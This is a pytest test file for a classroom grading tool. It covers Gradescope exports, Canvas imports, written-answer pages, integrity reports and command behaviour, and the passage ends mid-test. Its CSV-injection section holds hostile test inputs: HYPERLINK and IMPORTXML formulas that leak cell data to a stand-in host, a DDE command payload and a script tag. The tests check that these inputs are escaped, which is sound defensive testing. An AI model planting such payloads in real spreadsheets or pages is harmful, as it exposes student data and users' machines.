"""The gradebook a TA gets from a Gradescope export: written answers where students put them (on
Gradescope, in the pages, in a PDF), a score sheet merged back, a Canvas import, the integrity report,
counts that mean what they say; and a command that behaves (exit codes, Ctrl-C, where it writes)."""

from __future__ import annotations

import copy
import csv
import html
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
import yaml
from conftest import signed_in

from attn_ref.grade.classroom.batch import grade_batch

LIMITS = dict(cell_timeout=20, call_timeout=8, notebook_timeout=60)
PRACTICE_TITLE = "Practice 3.1: from recurrence to attention"  # course/registry.py
GROUP = [{":name": "Ada Lovelace", ":sid": "00123", ":email": "ada@uni.edu"},
         {":name": "Zoë Ångström", ":sid": "00456", ":email": "zoe@uni.edu"}]


def _practice(release, kind: str):
    out, _ = release
    folder = "solutions" if kind == "solution" else "assignments"
    return nbformat.read(str(out / folder / "practice" / "practice.ipynb"), as_version=4)


def _answer(nb, question: str, text: str, where: str = "placeholder"):
    """A copy with a written answer put where students put them: the placeholder cell, a new cell, a code
    comment, or the prompt cell itself."""
    nb = copy.deepcopy(nb)
    start = next(i for i, c in enumerate(nb.cells) if f"**{question}, explain**" in c.source)
    if where == "prompt":
        nb.cells[start].source += "\n\n" + text
    elif where == "code":
        nb.cells.insert(start + 1, nbformat.v4.new_code_cell("\n".join("# " + line for line in text.splitlines())))
    else:
        nb.cells[start + 1].source = text
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"c{i}"
    return nb


def _csv(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


@pytest.fixture(scope="module")
def export(release, tmp_path_factory):
    """A Gradescope export of a practice class: a group of two with SIDs that start with 0 (unquoted in
    the YAML), answers in four places, a copied solution, a hostile answer, one score that differs."""
    base = tmp_path_factory.mktemp("export")
    folder = base / "assignment_99_export"
    folder.mkdir()
    solution, blank = _practice(release, "solution"), _practice(release, "blank")
    notebooks = {
        "submission_1": signed_in(_answer(solution, "q1", "Parallel matmuls beat sequential steps.\n<script>alert(1)</script>"),
                                  GROUP[0][":email"]),
        "submission_2": _answer(_answer(blank, "q2", "Memory, quadratic in T.", "code"), "q3", "h_t held it all.", "prompt"),
        "submission_3": signed_in(_answer(solution, "q1", "Parallel matmuls beat sequential steps."), "a3@uni.edu"),
        "submission_4": blank,
    }
    for key, nb in notebooks.items():
        (folder / key).mkdir()
        nbformat.write(nb, str(folder / key / "practice.ipynb"))
    lines = ["submission_1:", "  :submitters:"]
    for person in GROUP:  # written by hand, as Gradescope does: the SIDs unquoted
        lines += [f"  - :name: {person[':name']}", f"    :sid: {person[':sid']}", f"    :email: {person[':email']}"]
    lines += ["  :score: 23.0"]
    for key, (name, sid, score) in {"submission_2": ("Alan Turing", "00789", "0.0"), "submission_3": ("Grace Hopper", "A3", "20.0"),
                                    "submission_4": ("Edsger Dijkstra", "A4", "0.0")}.items():
        lines += [f"{key}:", "  :submitters:", f"  - :name: {name}", f"    :sid: {sid}", f"    :email: {sid.lower()}@uni.edu",
                  f"  :score: {score}"]
    (folder / "submission_metadata.yml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert yaml.safe_load((folder / "submission_metadata.yml").read_text())["submission_1"][":submitters"][0][":sid"] == 83  # the trap
    out, _ = release
    graded = base / "graded"
    report = grade_batch(folder, out / "autograder/practice-autograder.zip", graded, jobs=2, progress=False, **LIMITS)
    return folder, graded, report


def test_counts_mean_submissions_and_students(export):
    _, graded, report = export
    from attn_ref.grade.classroom.gradebook import summary_lines

    lines = summary_lines(report.book)
    assert lines[0] == "4 submissions, 5 students (1 group submissions)"
    assert any(line.startswith("q1 ") and "%" not in line for line in lines)  # a row per question
    assert "4 submissions ok, 0 not ok" in lines


def test_names_and_sids_survive_yaml_and_csv(export):
    _, graded, _ = export
    raw = (graded / "grades.csv").read_bytes()
    assert raw.startswith("\ufeff".encode())  # spreadsheets read UTF-8 names
    rows = {r["name"]: r for r in _csv(graded / "grades.csv")}
    assert rows["Zoë Ångström"]["sid"] == "00456" and rows["Ada Lovelace"]["sid"] == "00123"
    assert rows["Ada Lovelace"]["total"] == rows["Zoë Ångström"]["total"] == "23"
    for name in ("grades.csv", "report.html", "summary.png", "written/q1.html", "written/scores.csv"):
        assert (graded / name).stat().st_mode & 0o077 == 0, name  # gradebooks name students: owner only


def test_written_answers_found_where_students_put_them(export):
    _, graded, _ = export
    q1 = (graded / "written/q1.html").read_text()
    assert "Parallel matmuls beat sequential steps." in q1 and "&lt;script&gt;" in q1 and "<script>" not in q1
    assert "Memory, quadratic in T." in (graded / "written/q2.html").read_text()  # a code comment
    q3 = (graded / "written/q3.html").read_text()
    assert "h_t held it all." in q3 and "typed into the question's prompt cell" in q3 and "q4_ratio" not in q3
    results = json.loads((graded / "results/submission_2.json").read_text())
    written = {t["name"].split(":")[0]: t for t in results["tests"] if "written" in t.get("tags", [])}
    assert set(written) == {"q1_written", "q2_written", "q3_written", "q6_written", "q7_written", "q11_written"}
    for entry in written.values():
        assert entry["visibility"] == "hidden" and entry["output_format"] == "html" and entry["max_score"] == 0
    assert "<pre>Memory, quadratic in T.</pre>" in written["q2_written"]["output"]
    assert "prompt cell" in written["q3_written"]["output"]
    hostile = json.loads((graded / "results/submission_1.json").read_text())
    assert "&lt;script&gt;" in next(t["output"] for t in hostile["tests"] if t["name"].startswith("q1_written"))


@pytest.fixture(scope="module")
def scored_export(release, export):
    """The export after a TA typed written scores into written/scores.csv and ran the batch again."""
    folder, graded, _ = export
    sheet = graded / "written" / "scores.csv"
    rows = _csv(sheet)
    assert [r["name"] for r in rows] == ["Ada Lovelace", "Zoë Ångström", "Alan Turing", "Grace Hopper", "Edsger Dijkstra"]
    for row in rows:
        row["q1_written"] = {"Ada Lovelace": "1", "Zoë Ångström": "1", "Grace Hopper": "0.5"}.get(row["name"], "")
        row["q2_written"] = "7" if row["name"] == "Alan Turing" else ""  # out of range: a warning, ignored
    with open(sheet, "w", newline="", encoding="utf-8-sig") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    out, _ = release
    again = grade_batch(folder, out / "autograder/practice-autograder.zip", graded, jobs=2, progress=False, **LIMITS)
    return folder, graded, again


def test_written_scores_from_the_sheet_reach_the_gradebook(scored_export):
    _, graded, again = scored_export
    assert again.graded == 0  # nothing regraded: the sheet alone changed
    book = {r["name"]: r for r in _csv(graded / "grades.csv")}
    assert book["Ada Lovelace"]["q1_written"] == "1" and book["Ada Lovelace"]["total"] == "24"
    assert book["Grace Hopper"]["total"] == "23.5" and book["Alan Turing"]["q2_written"] == ""
    assert any("'7' is not a score from 0 to 1" in w for w in again.book.warnings)
    assert _csv(graded / "written" / "scores.csv")[0]["q1_written"] == "1"  # the TAs' scores are kept


def test_a_canvas_import_matches_on_ids_and_lists_who_does_not(release, scored_export, tmp_path):
    folder, graded, _ = scored_export  # the written scores typed: Canvas gets the totals with them
    roster = tmp_path / "canvas_export.csv"
    roster.write_text("\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Lab 3.1 (111)\n"
                      "    Points Possible,,,,,23\n"
                      "\"Lovelace, Ada\",501,00123,ada,Sec 1,\n"
                      "\"Ångström, Zoë\",502,00456,zoe,Sec 1,\n"
                      "\"Turing, Alan\",503,X-789,turing,Sec 2,\n"  # matches no SID, and the login differs
                      "\"Hopper, Grace\",504,A3,grace,Sec 2,\n"
                      "\"Student, Test\",999,,,Sec 1,\n", encoding="utf-8")
    out, _ = release
    report = grade_batch(folder, out / "autograder/practice-autograder.zip", graded, jobs=1, progress=False,
                         canvas={"roster": roster, "assignment": "Practice 3.1 (222)"}, **LIMITS)
    rows = list(csv.reader(open(graded / "canvas.csv", newline="", encoding="utf-8-sig")))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Practice 3.1 (222)"]
    assert rows[1][0] == "Points Possible"
    scores = {r[0]: r[5] for r in rows[2:]}
    assert scores == {"Lovelace, Ada": "24", "Ångström, Zoë": "24", "Turing, Alan": "", "Hopper, Grace": "23.5"}
    unmatched = [r["name"] for r in _csv(graded / "canvas-unmatched.csv")]
    assert unmatched == ["Alan Turing", "Edsger Dijkstra"]
    told = [w for w in report.book.warnings if w.startswith("canvas.csv: no score for")]
    assert len(told) == 2 and "Alan Turing" in told[0] and "Edsger Dijkstra" in told[1], told
    assert any("filling a new column 'Practice 3.1 (222)' (--canvas-assignment)" in n for n in report.book.notes)
    assert any("--canvas-assignment 'Practice 3.1 (222)' is not a column of the roster" in w for w in report.book.warnings)
    # no --canvas-assignment and no column named for the assignment: a new one, and the run says so
    report = grade_batch(folder, out / "autograder/practice-autograder.zip", graded, jobs=1, progress=False,
                         canvas={"roster": roster, "assignment": None}, **LIMITS)
    assert next(csv.reader(open(graded / "canvas.csv", newline="", encoding="utf-8-sig")))[5] == PRACTICE_TITLE
    assert any(f"no roster column is named {PRACTICE_TITLE!r} or 'practice': a new column" in n for n in report.book.notes)
    assert not (graded / "canvas-missing.csv").exists()  # everyone has a grade


def test_the_integrity_report(export):
    _, graded, _ = export
    page = (graded / "report.html").read_text()
    assert "Code similarity" in page and "Integrity flags" in page
    assert "Ada Lovelace, Zoë Ångström" in page and "Grace Hopper" in page  # the two copies of the solution
    assert "100%" in page
    differs = page.split("Scores that differ from Gradescope")[1]
    assert "Grace Hopper" in differs and "Alan Turing" not in differs  # 23 here, 20 on Gradescope


def test_similarity_with_a_function_starter_excludes_the_starter():
    """The lab's units start from a function stub: its fingerprints are boilerplate, copies still show."""
    from attn_ref.grade.classroom.report import similar_pairs

    starter = 'def softmax(x, axis=-1):\n    """Softmax of a NumPy array along axis, stable for large inputs."""\n    ...\n'
    copied = starter.replace("    ...\n", "    shifted = x - np.max(x, axis=axis, keepdims=True)\n"
                             "    exps = np.exp(shifted)\n    return exps / np.sum(exps, axis=axis, keepdims=True)\n")
    other = starter.replace("    ...\n", "    m = x.max(axis=axis, keepdims=True)\n    total = 0\n"
                            "    e = np.exp(x - m)  # overflow-free\n    total = e.sum(axis=axis, keepdims=True)\n"
                            "    return e / total\n")
    pairs = similar_pairs({"ada": copied, "grace": copied.replace("exps", "e_x"), "alan": other, "stub": starter}, starter)
    assert pairs and pairs[0][:2] == ("ada", "grace") and pairs[0][2] > 0.9
    assert all("stub" not in (a, b) for a, b, *_ in pairs)


# ---- spreadsheet formulas (OWASP's CSV injection) ----------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", " ", "\xa0", "＝", "＋", "－", "＠")
LINK_FILE = '=HYPERLINK("x.test?leak="&E2&F2,"open").ipynb'  # no "/": it is a file name
HOSTILE = {":name": '=HYPERLINK("x.test?leak="&E2&F2,"open")', ":sid": "+1+cmd|' /C calc'!A0", ":email": "@SUM(1+1)"}
EVE = {":name": "=1+1 Eve", ":sid": "", ":email": "eve@uni.edu"}  # no SID: the sheet keys her row by name
FORMULA_ANSWER = "=IMPORTXML(CONCAT(\"x.test?\",A2)) is not an answer"


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8-sig") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _formula_cells(graded: Path) -> dict[str, list[str]]:
    """Every cell of every CSV the gradebook wrote that a spreadsheet would run as a formula."""
    found = {}
    for path in sorted(graded.rglob("*.csv")):
        bad = [cell for cell in _cells(path) if cell.startswith(FORMULA_STARTS)]
        if bad:
            found[str(path.relative_to(graded))] = bad
    return found


@pytest.fixture(scope="module")
def hostile(release, tmp_path_factory):
    """Two classes whose students write formulas: a folder with a notebook named =HYPERLINK(...), and a
    Gradescope export naming a student =HYPERLINK(...) (SID +1+cmd|..., email @SUM(...)) and one =1+1 Eve
    without a SID, whose q1 answer is a formula; both with a Canvas roster, where the first student's row
    carries the SID as its SIS User ID."""
    base = tmp_path_factory.mktemp("hostile")
    solution, blank = _practice(release, "solution"), _practice(release, "blank")
    (base / "folder").mkdir()
    solution = signed_in(solution, HOSTILE[":email"])  # the same numbers in the folder (unverified) and the export
    nbformat.write(solution, str(base / "folder" / LINK_FILE))
    export = base / "export"
    for key, nb in {"submission_1": solution, "submission_2": _answer(blank, "q1", FORMULA_ANSWER)}.items():
        (export / key).mkdir(parents=True)
        nbformat.write(nb, str(export / key / "practice.ipynb"))
    metadata = {"submission_1": {":submitters": [HOSTILE], ":score": "23.0"},
                "submission_2": {":submitters": [EVE], ":score": "0.0"}}
    (export / "submission_metadata.yml").write_text(yaml.safe_dump(metadata, allow_unicode=True), encoding="utf-8")
    roster = base / "canvas_export.csv"
    with open(roster, "w", newline="", encoding="utf-8-sig") as f:
        csv.writer(f).writerows([["Student", "ID", "SIS User ID", "SIS Login ID", "Section"],
                                 ["Link, Mal", "601", HOSTILE[":sid"], "mal", "Sec 1"],
                                 ["=1+1, Eve", "602", "E2", "eve", "-Sec 2"],
                                 ["Nobody, Else", "603", "N3", "nobody", "Sec 1"]])
    out, _ = release
    zip_path = out / "autograder/practice-autograder.zip"
    # Eve's login is her email's user part: it matches with the roster's domain named (canvas.py)
    canvas = {"roster": roster, "assignment": "Practice 3.1 (222)", "login_domain": "uni.edu"}
    reports = {name: grade_batch(base / name, zip_path, base / f"graded-{name}", jobs=2, progress=False, canvas=canvas, **LIMITS)
               for name in ("folder", "export")}
    return base, reports


def test_spreadsheet_cells_escape_text_formulas_and_keep_numbers(tmp_path):
    from attn_ref.grade.classroom.spreadsheet import safe_cell, write_csv

    assert safe_cell(-1.5) == "-1.5" and safe_cell(23.0) == "23" and safe_cell(0.25) == "0.25" and safe_cell(-3) == "-3"
    assert safe_cell("-1.5") == "'-1.5"  # decided by type: text that reads as a number is still text
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("+1") == "'+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
    # every OWASP / ASVS start, its Unicode forms and whatever a spreadsheet skips before one: a control
    # character becomes "?" (text.py), anything else that could start a formula gets its "'"
    for start in ("\t", "\r", "\n", "\0", "\v", "\x1b", "\u200b", "\u202e"):
        assert safe_cell(start + "=1+1") == "?=1+1", repr(start)
    for start in ("\xa0", " ", "\u3000", "＝", "＋", "－", "＠", "﹦", "﹢", "⁼"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1", repr(start)
    assert safe_cell("Ana") == "Ana" and safe_cell("a=b") == "a=b" and safe_cell("") == "" and safe_cell(None) == ""
    assert safe_cell(safe_cell("=1+1")) == "'=1+1"  # idempotent: a sheet read back compares equal
    write_csv(tmp_path / "t.csv", ["name", "total", "=h"], [{"name": "=1+1", "total": -1.5}, ["Ana", 2.0, None]])
    assert (tmp_path / "t.csv").read_bytes().startswith("\ufeff".encode())
    assert _cells(tmp_path / "t.csv") == ["name", "total", "'=h", "'=1+1", "-1.5", "", "Ana", "2", ""]


def test_gradebook_rows_hold_scores_as_numbers(tmp_path):
    """Scores reach the CSV writer as numbers, so a negative one is never escaped into text."""
    from attn_ref.grade.checks_json import Checks, QuestionUnit, WrittenPart
    from attn_ref.grade.classroom.discover import Submission
    from attn_ref.grade.classroom.gradebook import Gradebook, Graded

    checks = Checks("practice", (QuestionUnit("q1"),), (WrittenPart("q2", points=1),))
    sub = Submission("s", tmp_path / "=s.ipynb", [{"name": "-Ana", "sid": "", "email": ""}])
    (row,) = Gradebook(checks, [Graded(sub, {}, {"q1": -1.5}, {"q2_written": 0.5})]).rows
    assert (row["q1"], row["q2_written"], row["total"]) == (-1.5, 0.5, -1.0)


def test_a_file_name_that_is_a_formula_is_text_in_every_csv(hostile):
    base, _ = hostile
    graded = base / "graded-folder"
    assert {p.name for p in graded.rglob("*.csv")} == {"grades.csv", "scores.csv", "canvas.csv", "canvas-unmatched.csv", "adjustments.csv", "mistakes.csv"}
    assert _formula_cells(graded) == {}
    (row,) = _csv(graded / "grades.csv")
    assert row["submission"] == "'" + LINK_FILE and float(row["total"]) == 23 and row["total"] == "23"  # a number
    (unmatched,) = _csv(graded / "canvas-unmatched.csv")
    assert unmatched["submission"] == "'" + LINK_FILE and unmatched["reason"].startswith("no roster row has this SID, Canvas ID or login")


def test_export_names_sids_and_emails_that_are_formulas_are_text_and_ids_are_validated(hostile):
    base, reports = hostile
    graded = base / "graded-export"
    assert _formula_cells(graded) == {}
    rows = {r["name"]: r for r in _csv(graded / "grades.csv")}
    link = rows["'" + HOSTILE[":name"]]
    assert (link["sid"], link["email"]) == ("'" + HOSTILE[":sid"], "'" + HOSTILE[":email"])
    assert float(link["total"]) == 23 and float(rows["'=1+1 Eve"]["total"]) == 0  # numbers stay numbers
    sheet = {r["name"]: r for r in _csv(graded / "written" / "scores.csv")}
    assert sheet["'" + HOSTILE[":name"]]["sid"] == "'" + HOSTILE[":sid"] and "'=1+1 Eve" in sheet
    # canvas.csv: IDs are never escaped; the row whose SIS User ID is a formula is left out, its student listed
    canvas = list(csv.reader(open(graded / "canvas.csv", newline="", encoding="utf-8-sig")))
    assert canvas[2:] == [["'=1+1, Eve", "602", "E2", "eve", "'-Sec 2", "0"], ["Nobody, Else", "603", "N3", "nobody", "Sec 1", ""]]
    (unmatched,) = _csv(graded / "canvas-unmatched.csv")
    assert unmatched["name"] == "'" + HOSTILE[":name"] and unmatched["total"] == "23"
    assert "roster row's SIS User ID" in unmatched["reason"] and "never changed" in unmatched["reason"]
    from attn_ref.grade.classroom.gradebook import summary_lines

    lines = summary_lines(reports["export"].book)
    assert any("1 roster row(s) left out (Link, Mal)" in line for line in lines)
    assert any("no score for" in line and HOSTILE[":name"] in line and "never changed" in line for line in lines)


def test_a_written_answer_that_is_a_formula_stays_on_its_page(hostile):
    """Written answers go to the HTML pages (escaped), into no CSV: the sheet has IDs and scores only."""
    base, _ = hostile
    graded = base / "graded-export"
    assert html.escape(FORMULA_ANSWER) in (graded / "written" / "q1.html").read_text()
    assert not any(FORMULA_ANSWER.lstrip("=") in cell for path in graded.rglob("*.csv") for cell in _cells(path))


def test_scores_typed_for_students_named_like_formulas_reach_the_gradebook(release, hostile):
    """The sheet keys rows by submission and SID (or name): compared as the sheet holds them, with the
    ' this wrote, or without it, as a spreadsheet may save the file."""
    base, _ = hostile
    out, _ = release
    for name, scores in {"folder": {"'" + HOSTILE[":name"]: "1"},  # the file's own name, escaped as a formula
                         "export": {"'" + HOSTILE[":name"]: "1", "'=1+1 Eve": "0.5"}}.items():
        sheet = base / f"graded-{name}" / "written" / "scores.csv"
        rows = _csv(sheet)
        for row in rows:
            row["q1_written"] = scores[row["name"]]
            if row["name"] == "'=1+1 Eve":  # saved without the ' by the TA's spreadsheet
                row.update({k: v.removeprefix("'") for k, v in row.items()})
        with open(sheet, "w", newline="", encoding="utf-8-sig") as f:
            writer = csv.DictWriter(f, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
        again = grade_batch(base / name, out / "autograder/practice-autograder.zip", base / f"graded-{name}", jobs=1,
                            progress=False, **LIMITS)
        assert again.graded == 0
        book = {r["name"]: r for r in _csv(base / f"graded-{name}" / "grades.csv")}
        for who, score in scores.items():
            assert book[who]["q1_written"] == score, (name, who)
        assert {r["name"]: r["q1_written"] for r in _csv(sheet)} == scores  # kept, in the escaped form
        assert _formula_cells(base / f"graded-{name}") == {}
    assert book["'" + HOSTILE[":name"]]["total"] == "24"


# ---- the command ---------------------------------------------------------------------------------------

def _cli(*args, cwd=None, **kwargs):
    return subprocess.run([sys.executable, "-m", "attn_ref", "grade", *map(str, args)], capture_output=True, text=True,
                          timeout=600, cwd=cwd, **kwargs)


def test_mistakes_in_the_command_exit_2_with_a_message(release, tmp_path):
    out, _ = release
    zip_path = out / "autograder/practice-autograder.zip"
    done = _cli(tmp_path / "does_not_exist", "--autograder", zip_path, cwd=tmp_path)
    assert done.returncode == 2 and "does not exist" in done.stderr and not (tmp_path / "graded").exists()
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "todo.txt").write_text("no notebook here")
    done = _cli(tmp_path / "notes", "--autograder", zip_path, cwd=tmp_path)
    assert done.returncode == 2 and "holds no notebook" in done.stderr
    done = _cli(tmp_path / "notes", "--autograder", zip_path, "--results", tmp_path / "results.json")  # Gradescope's mode
    assert done.returncode == 0 and json.loads((tmp_path / "results.json").read_text())["score"] == 0
    practice = out / "assignments/practice/practice.ipynb"
    done = _cli(practice, "--autograder", zip_path, "--export", "canvas", "--canvas-roster", tmp_path / "nothere.csv", cwd=tmp_path)
    assert done.returncode == 2 and "--canvas-roster" in done.stderr and "nothere.csv: no such file" in done.stderr
    done = _cli(practice, "--autograder", out / "autograder/lab-autograder.zip", cwd=tmp_path)  # another assignment's zip
    assert done.returncode == 2 and "for 'practice', but the autograder is for 'lab'" in done.stderr, done.stderr[-2000:]
    assert not (tmp_path / "graded").exists()
    done = _cli(practice, "--autograder", out / "autograder/lab-autograder.zip", "--results", tmp_path / "r.json")
    assert done.returncode == 0 and "is for the assignment 'practice'" in json.loads((tmp_path / "r.json").read_text())["output"]


def test_the_run_summary_names_only_what_exists(release, tmp_path):
    """The lab has no written questions, so no written/ folder: the summary does not name one."""
    out, _ = release
    (tmp_path / "class").mkdir()
    (tmp_path / "class" / "corrupt.ipynb").write_text('{"cells": [ this is not json')
    done = _cli(tmp_path / "class", "--autograder", out / "autograder/lab-autograder.zip", "--out", tmp_path / "g")
    assert done.returncode == 0, done.stderr[-2000:]
    assert (f"gradebook: {tmp_path / 'g' / 'grades.csv'}; summary chart: {tmp_path / 'g' / 'summary.png'}; named mistakes: "
            f"{tmp_path / 'g' / 'mistakes.csv'}; integrity: {tmp_path / 'g' / 'report.html'}") in done.stdout
    assert "written" not in done.stdout and not (tmp_path / "g" / "written").exists()
    (row,) = _csv(tmp_path / "g" / "grades.csv")
    assert row["total"] == "0" and row["status"].startswith("error: corrupt.ipynb")  # the student's doing: 0 stands
    assert "\nkernels " in done.stdout
    again = _cli(tmp_path / "class", "--autograder", out / "autograder/lab-autograder.zip", "--out", tmp_path / "g")
    assert "0 graded, 1 unchanged since the last run" in again.stdout, again.stdout
    assert "\nkernels " not in again.stdout  # no kernel started, so no line says how kernels were started


def test_help_says_what_it_is_for_with_examples_and_defaults():
    done = subprocess.run([sys.executable, "-m", "attn_ref", "grade", "--help"], capture_output=True, text=True)
    assert done.stdout.splitlines()[0].startswith("usage:")
    text = " ".join(done.stdout.split())
    assert "Grade submissions against an autograder zip" in text and "examples:" in text
    for default in ("default: graded/", "default: 480", "default: 120", "default: 30", "default: auto"):
        assert default in text, default


def test_batches_go_to_graded_and_single_gradings_never_overwrite(release, tmp_path):
    out, _ = release
    zip_path = out / "autograder/practice-autograder.zip"
    for who in ("a", "b"):
        (tmp_path / who).mkdir()
    shutil.copy(out / "solutions/practice/practice.ipynb", tmp_path / "a" / "practice.ipynb")
    shutil.copy(out / "assignments/practice/practice.ipynb", tmp_path / "b" / "practice.ipynb")
    for who in ("a", "b"):
        assert _cli(tmp_path / who / "practice.ipynb", "--autograder", zip_path, cwd=tmp_path).returncode == 0
    files = sorted((tmp_path / "graded" / "results").iterdir())
    assert len(files) == 2 and {json.loads(f.read_text())["score"] for f in files} == {0, 23}


def test_ctrl_c_stops_writes_the_partial_gradebook_with_no_made_up_grade_and_exits_130(release, tmp_path):
    """A class interrupted after its first grading: every student not graded has empty cells in grades.csv
    and canvas.csv (a 0 there would overwrite their Canvas grade), is listed in canvas-missing.csv and left
    out of the means; the resumed run fills them. The roster's column named for the assignment is filled."""
    out, _ = release
    folder = tmp_path / "export"
    metadata = {}
    for i in range(6):
        (folder / f"submission_{i}").mkdir(parents=True)
        solution = nbformat.read(str(out / "solutions/practice/practice.ipynb"), as_version=4)
        nbformat.write(signed_in(solution, f"s{i}@uni.edu"), str(folder / f"submission_{i}" / "practice.ipynb"))
        metadata[f"submission_{i}"] = {":submitters": [{":name": f"Student {i}", ":sid": f"S{i}", ":email": f"s{i}@uni.edu"}]}
    (folder / "submission_metadata.yml").write_text(yaml.safe_dump(metadata))
    column = f"{PRACTICE_TITLE} (55501)"
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section,Lab 3.1: attention in code (55502),"
                      f"{column},Current Score\n" + "".join(f"\"{i}, Student\",{700 + i},S{i},s{i},Sec 1,10,17,90\n" for i in range(6)))
    command = [sys.executable, "-m", "attn_ref", "grade", str(folder), "--autograder", str(out / "autograder/practice-autograder.zip"),
               "--export", "canvas", "--canvas-roster", str(roster)]
    run = subprocess.Popen([*command, "--jobs", "1"], cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline and not list((tmp_path / "graded" / "results").glob("*.json")):
        time.sleep(0.2)
    os.kill(run.pid, signal.SIGINT)
    start = time.monotonic()
    stdout, stderr = run.communicate(timeout=60)
    # prompt: nothing new starts; the gradebook so far (report, plots) is written before it exits
    assert time.monotonic() - start < 20 and run.returncode == 130, stderr[-2000:]
    assert "graded — rerun to resume" in stderr and "Traceback" not in stderr
    rows = _csv(tmp_path / "graded" / "grades.csv")
    done = [r for r in rows if r["status"] == "ok"]
    assert len(rows) == 6 and 1 <= len(done) < 6
    for row in rows:
        if row["status"] != "ok":
            assert row["status"] == "not graded yet" and row["total"] == "" and row["q1"] == row["q11"] == "", row
    canvas = list(csv.reader(open(tmp_path / "graded" / "canvas.csv", newline="", encoding="utf-8-sig")))
    assert canvas[0][-1] == column and f"filling the roster's column {column!r}" in stdout
    assert sorted(r[-1] for r in canvas[2:]) == [""] * (6 - len(done)) + ["23"] * len(done)
    missing = _csv(tmp_path / "graded" / "canvas-missing.csv")
    assert sorted(r["sid"] for r in missing) == sorted(r["sid"] for r in rows if r["status"] != "ok")
    assert {r["reason"] for r in missing} == {"not graded yet"}
    assert f"partial gradebook: {6 - len(done)} of 6 submissions have no grade" in stdout
    assert "q4 " in stdout and " 100.0 " in stdout.split("q4 ")[1].splitlines()[0]  # the mean of those graded
    resumed = subprocess.run([*command, "--jobs", "2"], cwd=tmp_path, capture_output=True, text=True, timeout=600)
    assert resumed.returncode == 0, resumed.stderr[-2000:]
    assert {r["total"] for r in _csv(tmp_path / "graded" / "grades.csv")} == {"23"}
    canvas = list(csv.reader(open(tmp_path / "graded" / "canvas.csv", newline="", encoding="utf-8-sig")))
    assert [r[-1] for r in canvas[2:]] == ["23"] * 6 and not (tmp_path / "graded" / "canvas-missing.csv").exists()
    assert "partial gradebook" not in resumed.stdout


def test_a_kernel_that_cannot_start_gives_no_grade_and_a_corrupt_notebook_still_0(release, tmp_path):
    """No grade exists when the grader's side fails: empty cells, "not graded" and why, retried by the next
    run; a notebook the student broke keeps its 0, as on Gradescope."""
    from dataclasses import replace

    from attn_ref.grade.isolation.sandbox import resolve

    out, _ = release
    folder = tmp_path / "class"
    folder.mkdir()
    shutil.copy(out / "solutions/practice/practice.ipynb", folder / "solution.ipynb")
    (folder / "corrupt.ipynb").write_text('{"cells": [ this is not json')
    broken = tmp_path / "python3"
    broken.write_text("#!/bin/sh\nexit 1\n")  # the student environment's interpreter, broken after the run began
    broken.chmod(0o755)
    zip_path = out / "autograder/practice-autograder.zip"
    report = grade_batch(folder, zip_path, tmp_path / "graded", jobs=2, progress=False, plan=replace(resolve(), python=str(broken)),
                         **LIMITS)
    rows = {r["name"]: r for r in _csv(tmp_path / "graded" / "grades.csv")}
    assert rows["solution"]["status"].startswith("not graded: the notebook's kernel did not start"), rows["solution"]
    assert rows["solution"]["total"] == rows["solution"]["q1"] == ""
    assert json.loads((tmp_path / "graded/results/solution.json").read_text())["extra_data"]["outcome"] == "not_graded"
    assert rows["corrupt"]["total"] == rows["corrupt"]["q1"] == "0" and rows["corrupt"]["status"].startswith("error: corrupt.ipynb")
    from attn_ref.grade.classroom.gradebook import summary_lines

    assert "partial gradebook: 1 of 2 submissions have no grade" in "\n".join(summary_lines(report.book))
    assert (report.graded, report.not_graded) == (1, 1)  # the corrupt one's 0 is a grade; the solution has none
    again = grade_batch(folder, zip_path, tmp_path / "graded", jobs=2, progress=False, **LIMITS)  # the environment fixed
    assert again.graded == 1  # the submission with no grade, not the corrupt one
    rows = {r["name"]: r for r in _csv(tmp_path / "graded" / "grades.csv")}
    assert (rows["solution"]["total"], rows["solution"]["status"], rows["corrupt"]["total"]) == ("23", "ok", "0")


def _book(tmp_path):
    """A gradebook of two submissions, one full marks, one with no grade (its results: the grader failed)."""
    from attn_ref.grade.checks_json import Answer, Checks, QuestionUnit
    from attn_ref.grade.classroom.discover import Submission
    from attn_ref.grade.classroom.gradebook import Gradebook, Graded

    checks = Checks("practice", (QuestionUnit("q1", answers=(Answer("a", "int", expected=2, points=2.0),)),))
    failed = {"tests": [{"name": "q1: x", "score": 0.0, "max_score": 2.0}],
              "extra_data": {"status": "not graded: the grader failed (its grading process died)", "outcome": "not_graded"}}
    return Gradebook(checks, [Graded(Submission("a", tmp_path / "a.ipynb"), {"extra_data": {"status": "ok"}}, {"q1": 2.0}),
                              Graded(Submission("b", tmp_path / "b.ipynb"), failed, {"q1": 0.0})])


def test_a_submission_with_no_grade_has_empty_cells_and_counts_in_no_mean(tmp_path):
    from attn_ref.grade.classroom.gradebook import summary_lines

    book = _book(tmp_path)
    assert [(r["q1"], r["total"]) for r in book.rows] == [(2.0, 2.0), (None, None)]
    lines = summary_lines(book)
    assert next(line for line in lines if line.startswith("q1 ")).split()[1:] == ["100.0", "100.0", "100.0"]
    assert "  1 × not graded: the grader failed (its grading process died): b" in lines


def test_summary_png_counts_only_grades_in_whole_submissions(tmp_path):
    import matplotlib.pyplot as plt

    from attn_ref.grade.classroom.gradebook import summary_figure

    fig = summary_figure(_book(tmp_path))
    left = fig.axes[0]
